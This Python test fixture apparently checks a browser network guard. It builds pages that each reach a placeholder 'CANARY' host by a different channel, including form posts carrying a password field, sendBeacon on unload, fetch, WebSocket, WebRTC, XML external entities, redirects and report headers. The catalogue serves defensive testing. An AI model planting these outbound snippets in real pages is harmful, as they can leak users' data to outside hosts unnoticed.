"""Ways in which a page reaches another host, as pages; CANARY stands for the other host's origin."""

from __future__ import annotations

from perf.guard_cases.sites import CanarySites, WebPage

BIG = "style='position:fixed;inset:0;display:block;font-size:60px;width:100%;height:100%'"
CLICKED = {  # the middle of the page is clicked
    "link": f"<a {BIG} href='CANARY/link'>GO</a>",
    "link-blank": f"<a {BIG} target=_blank rel=noopener href='CANARY/link-blank'>GO</a>",
    "ping": f"<a {BIG} href='#x' ping='CANARY/ping'>GO</a>",
    "popup": f"<button {BIG} onclick=\"window.open('CANARY/popup')\">GO</button>",
    "form": f"<form method=post action='CANARY/form'><input name=pw value=hunter2><button {BIG}>GO</button></form>",
    "form-target": f"<form target=_blank action='CANARY/form-target'><button {BIG}>GO</button></form>",
    "formaction": f"<form action='/nothing'><button {BIG} formaction='CANARY/formaction'>GO</button></form>",
    "download": f"<a {BIG} download href='CANARY/download'>GO</a>",
    "svg-link": f"<svg {BIG} viewBox='0 0 9 9'><a href='CANARY/svg-link'><rect width=9 height=9 /></a></svg>",
}
DOCUMENTS = {  # the page itself is replaced
    "meta-refresh": "<meta http-equiv=refresh content='0;url=CANARY/meta-refresh'>",
    "location": "<script>setTimeout(() => location = 'CANARY/location', 50)</script>",
    "unload-beacon": "<script>onpagehide = () => navigator.sendBeacon('CANARY/unload-beacon', 's');"
    "setTimeout(() => location = '/blank', 100)</script>",
    "data-page": "<iframe src=\"data:text/html,<img src='CANARY/data-page'>\"></iframe>",
    "blob-page": "<script>location = URL.createObjectURL(new Blob([`<img src='CANARY/blob-page'>`],"
    "{type: 'text/html'}))</script>",
    "xslt": "",  # an XML document; see add_pages
    "refresh-header": "",
    "redirect": "",
    "redirect-307": "",
}
PASSIVE = {
    "fetch": "<script>fetch('CANARY/fetch', {mode: 'no-cors'})</script>",
    "fetch-keepalive": "<script>fetch('CANARY/fetch-keepalive', {mode: 'no-cors', keepalive: true})</script>",
    "xhr": "<script>x = new XMLHttpRequest; x.open('POST', 'CANARY/xhr'); x.send('s')</script>",
    "beacon": "<script>navigator.sendBeacon('CANARY/beacon', 's')</script>",
    "websocket": "<script>new WebSocket('CANARY/websocket'.replace('http', 'ws'))</script>",
    "event-source": "<script>new EventSource('CANARY/event-source')</script>",
    "img": "<img src='CANARY/img'>",
    "srcset": "<img srcset='CANARY/srcset 1x'>",
    "picture": "<picture><source srcset='CANARY/picture'><img></picture>",
    "iframe": "<iframe src='CANARY/iframe'></iframe>",
    "srcdoc": "<iframe srcdoc=\"<img src='CANARY/srcdoc'>\"></iframe>",
    "object": "<object data='CANARY/object'></object>",
    "embed": "<embed src='CANARY/embed'>",
    "video": "<video src='CANARY/video' poster='CANARY/poster'></video>",
    "audio": "<audio src='CANARY/audio' preload=auto></audio>",
    "track": "<video crossorigin src='/x'><track default src='CANARY/track'></video>",
    "script": "<script src='CANARY/script'></script>",
    "module": "<script type=module src='CANARY/module'></script>",
    "import": "<script>import('CANARY/import').catch(() => 0)</script>",
    "stylesheet": "<link rel=stylesheet href='CANARY/stylesheet'>",
    "css-import": "<style>@import 'CANARY/css-import';</style>",
    "css-url": "<div style='background: url(CANARY/css-url)'>x</div>",
    "cursor": "<div style='cursor: url(CANARY/cursor), auto'>x</div>",
    "font": "<style>@font-face { font-family: f; src: url(CANARY/font) } p { font-family: f }</style><p>x",
    "svg-image": "<svg><image href='CANARY/svg-image' width=9 height=9 /></svg>",
    "svg-use": "<svg><use href='CANARY/svg-use#a' /></svg>",
    "icon": "<link rel=icon href='CANARY/icon'>",
    "manifest": "<link rel=manifest href='CANARY/manifest'>",
    "preload": "<link rel=preload as=image href='CANARY/preload'>",
    "prefetch": "<link rel=prefetch href='CANARY/prefetch'>",
    "modulepreload": "<link rel=modulepreload href='CANARY/modulepreload'>",
    "preconnect": "<link rel=preconnect href='CANARY'>",
    "dns-prefetch": "<link rel=dns-prefetch href='CANARY'>",
    "prerender": "<script type=speculationrules>{'prerender': [{'source': 'list', 'urls': ['CANARY/prerender']}],"
    "'prefetch': [{'source': 'list', 'urls': ['CANARY/speculation']}]}</script>".replace("'", '"'),
    "worker": "<script>new Worker(URL.createObjectURL(new Blob(["
    "`importScripts('CANARY/import-scripts')`])));new Worker(URL.createObjectURL(new Blob(["
    "`fetch('CANARY/worker', {mode: 'no-cors'})`])))</script>",
    "shared-worker": "<script>new SharedWorker('/shared-worker.js')</script>",
    "service-worker": "<script>navigator.serviceWorker.register('/service-worker.js')</script>",
    "service-worker-frame": "<iframe id=f></iframe><script>"
    "f.contentWindow.navigator.serviceWorker.register('/service-worker.js')</script>",
    "csp-report": "<img src='/unlisted'>",
    "link-header": "x",
    "webtransport": "<script>new WebTransport('CANARY/webtransport'.replace('http', 'https'))</script>",
    "stun": "<script>(async () => { const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'},"
    "{urls: 'stun:localhost:PORT'}, {urls: 'turn:127.0.0.1:PORT?transport=tcp', username: 'a', credential: 'b'},"
    "{urls: 'turn:127.0.0.1:PORT', username: 'a', credential: 'b'}]});"
    "p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer())})()</script>",
    "ice-candidate": "<script>(async () => { const p = new RTCPeerConnection, q = new RTCPeerConnection;"
    "p.createDataChannel('x'); const o = await p.createOffer(); await p.setLocalDescription(o);"
    "await q.setRemoteDescription(o); const a = await q.createAnswer(); await q.setLocalDescription(a);"
    "await p.setRemoteDescription(a); await p.addIceCandidate({sdpMid: '0', candidate:"
    "'candidate:1 1 udp 2122260223 127.0.0.1 PORT typ host'})})()</script>",
    "xml-entity": "<script>new DOMParser().parseFromString(\"<!DOCTYPE a [<!ENTITY e SYSTEM 'CANARY/xml-entity'>]>"
    "<a>&e;</a>\", 'text/xml')</script>",
    "paint-worklet": "<script>CSS.paintWorklet?.addModule('CANARY/paint-worklet')</script>",
    "audio-worklet": "<script>new AudioContext().audioWorklet?.addModule('CANARY/audio-worklet')</script>",
    "portal-fenced": "<fencedframe></fencedframe><iframe sandbox='allow-scripts' src='CANARY/sandbox'></iframe>",
    "document-write": "<script>document.write(\"<img src='CANARY/document-write'>\")</script>",
    "body-background": "<body background='CANARY/body-background'>",
    "input-image": "<input type=image src='CANARY/input-image'>",
    "attribution": "<img attributionsrc='CANARY/attribution' src='/x'>",
}
HEADERS = {
    "refresh-header": {"Refresh": "0; url=CANARY/refresh-header"},
    "redirect": {"Location": "CANARY/redirect"},
    "redirect-307": {"Location": "CANARY/redirect-307"},
    "link-header": {"Link": "<CANARY/link-header>; rel=preload; as=image, <CANARY>; rel=preconnect"},
    "csp-report": {
        "Content-Security-Policy": "img-src 'none'; report-uri CANARY/csp-report; report-to r",
        "Reporting-Endpoints": 'r="CANARY/report-to"',
        "NEL": '{"report_to": "r", "max_age": 600, "success_fraction": 1}',
        "Alt-Svc": 'h3="localhost:PORT"; ma=600, h2="localhost:PORT"; ma=600',
    },
}
STATUS = {"redirect": 302, "redirect-307": 307}
# Held by Chromium itself (service workers, WebTransport and UDP by our settings), or done later or for https only: even
# with the canary allowed nothing arrives.
SILENT = {
    "attribution",
    "csp-report",
    "dns-prefetch",
    "ice-candidate",
    "manifest",
    "preconnect",
    "prerender",
    "service-worker",
    "service-worker-frame",
    "svg-use",
    "webtransport",
    "xml-entity",
    "xslt",
}


def add_pages(sites: CanarySites) -> None:
    """Add the page of every way to the allowed server, under its name."""

    def fill(text: str) -> str:
        return text.replace("CANARY", sites.canary).replace("PORT", str(sites.canary_port))

    for name, html in {**CLICKED, **DOCUMENTS, **PASSIVE}.items():
        headers = {key: fill(value) for key, value in HEADERS.get(name, {}).items()}
        sites.pages[f"/{name}"] = WebPage(fill(html), status=STATUS.get(name, 200), headers=headers)
    sites.pages["/blank"] = WebPage("<title>blank</title>ok")
    script = "text/javascript"
    sites.pages["/shared-worker.js"] = WebPage(
        fill("fetch('CANARY/shared-worker', {mode: 'no-cors'})"), content_type=script
    )
    sites.pages["/service-worker.js"] = WebPage(
        fill("self.addEventListener('install', e => e.waitUntil(fetch('CANARY/sw', {mode: 'no-cors'})))"),
        content_type=script,
    )
    sites.pages["/xslt"] = WebPage(
        fill("<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='CANARY/xslt'?><a/>"), content_type="text/xml"
    )
